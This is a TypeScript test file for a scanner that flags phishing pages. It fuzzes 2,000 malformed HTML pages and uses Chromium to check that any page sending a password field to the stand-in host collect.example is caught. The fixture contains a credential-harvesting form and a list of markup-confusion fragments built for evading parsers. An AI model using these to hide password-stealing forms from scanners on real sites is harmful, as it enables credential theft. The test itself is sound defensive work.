/** RELIABILITY.md A19: broken markup hides no form. Chromium says which forms a password would go to; the scan must know
 *  each of them. */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { judgePage } from "../kit/abuse-site.ts";
import { type Browser, openBrowser } from "./chromium.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
}, 60_000);
afterAll(() => browser.close());

const EVIL = "https://collect.example/";
const BAD = `<form action=${EVIL}>`;
const FIELD = "<input type=password>";
const PIECES = [
  ...[BAD, "<form action=/ok>", "</form>", FIELD, "<svg>", "</svg>", "<math>", "</math>", "<title>", "</title>"],
  ...["<style>", "</style>", "<textarea>", "</textarea>", "<script>", "</script>", "<!--", "-->", "--!>", "<![CDATA["],
  ...[
    "]]>",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<foreignObject>",
    "</foreignObject>",
    "<desc>",
    "</desc>",
  ],
  ...[
    "<mtext>",
    "</mtext>",
    "<mi>",
    "</mi>",
    "<annotation-xml encoding='text/html'>",
    "</annotation-xml>",
    "<g>",
    "</g>",
  ],
  ...["<table>", "</table>", "<tr>", "<td>", "<select>", "</select>", "<option>", "<li>", "</li>", "<ul>", "</ul>"],
  ...[
    "<a x='",
    '<a y="',
    "'",
    '">',
    "<iframe>",
    "</iframe>",
    "<xmp>",
    "</xmp>",
    "<plaintext>",
    "<br>",
    "</br>",
    "<svg/>",
  ],
  ...[
    "<font color=x>",
    "<font>",
    "<span>",
    "</span>",
    "<h1>",
    "</h1>",
    "<button>",
    "</button>",
    "<label>",
    "<caption>",
  ],
  ...["<template>", "</template>", "<body>", "</body>", "<head>", "</head>", "</html>", "text", "<?x ", "<! ", "</ >"],
  ...[
    '<a =">',
    "=",
    "<noembed>",
    "<noframes>",
    "<object>",
    "</object>",
    "<marquee>",
    "</marquee>",
    "<dd>",
    "<rt>",
    "<nobr>",
  ],
];
const BEGINNINGS = [
  "",
  "<svg>",
  "<math>",
  "<svg><desc>",
  "<svg><foreignObject>",
  "<math><mtext>",
  "<table>",
  "<select>",
];

/** The same pages in every run. */
function random(seed: number): (below: number) => number {
  return (below) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

function pages(count: number, seed: number): string[] {
  const next = random(seed);
  const some = (most: number) => Array.from({ length: 2 + next(most) }, () => PIECES[next(PIECES.length)]!).join("");
  return Array.from(
    { length: count },
    () => BEGINNINGS[next(BEGINNINGS.length)]! + some(5) + BAD + some(4) + FIELD + some(3),
  );
}

/** Written into a frame each, so that they are read as pages are, scripts on. */
const ASK = `(pages) => JSON.stringify(pages.map((page) => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const inner = frame.contentDocument;
  inner.open();
  inner.write(page);
  inner.close();
  const sends = [...inner.querySelectorAll("input")].some(
    (input) => input.type === "password" && input.form?.getAttribute("action") === ${JSON.stringify(EVIL)},
  );
  frame.remove();
  return sends;
}))`;

test("what Chromium would send to another domain is refused, in 2,000 broken pages", async () => {
  await browser.visit("about:blank");
  const all = pages(2000, 20261121);
  let sending = 0;
  for (let at = 0; at < all.length; at += 200) {
    const batch = all.slice(at, at + 200);
    const answer = await browser.evaluate<string>(`(${ASK})(${JSON.stringify(batch)})`);
    const sends = JSON.parse(answer) as boolean[];
    const missed = batch.filter((page, i) => sends[i] && judgePage(page) === "pass");
    expect(missed).toEqual([]);
    sending += sends.filter(Boolean).length;
  }
  expect(sending).toBeGreaterThan(300);
}, 180_000);
